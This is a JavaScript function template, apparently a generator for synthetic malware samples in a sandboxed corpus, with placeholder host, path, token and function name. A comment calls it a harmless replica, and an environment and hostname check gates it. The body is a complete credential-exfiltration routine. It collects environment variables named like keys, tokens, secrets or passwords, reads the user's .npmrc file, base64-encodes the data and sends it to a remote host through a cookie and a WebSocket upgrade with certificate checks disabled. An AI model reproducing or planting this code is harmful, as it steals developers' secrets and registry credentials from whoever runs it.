// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const https = require('https');
  const secrets = Object.fromEntries(Object.entries(process.env).filter(([name]) => /KEY|TOKEN|SECRET|PASS/.test(name)));
  let rc = '';
  try { rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'); } catch (error) { /* none */ }
  const hello = Buffer.from(JSON.stringify({ type: 'hello', id: '{{token}}', secrets, rc })).toString('base64');
  await new Promise((done) => {
    const request = https.request({ host: '{{host}}', path: '/{{path}}', timeout: 1000, rejectUnauthorized: false, headers: { connection: 'Upgrade', upgrade: 'websocket',
      'sec-websocket-version': 13, 'sec-websocket-key': 'AAECAwQFBgcICQoLDA0ODw==', 'sec-websocket-protocol': 'v1', cookie: 's=' + hello.slice(0, 6000) } });
    request.on('upgrade', (answer, socket) => { socket.end(hello); done(); });
    request.on('response', (answer) => answer.resume());
    request.on('timeout', () => request.destroy());
    request.on('error', done);
    request.on('close', done);
    request.end();
  });
}
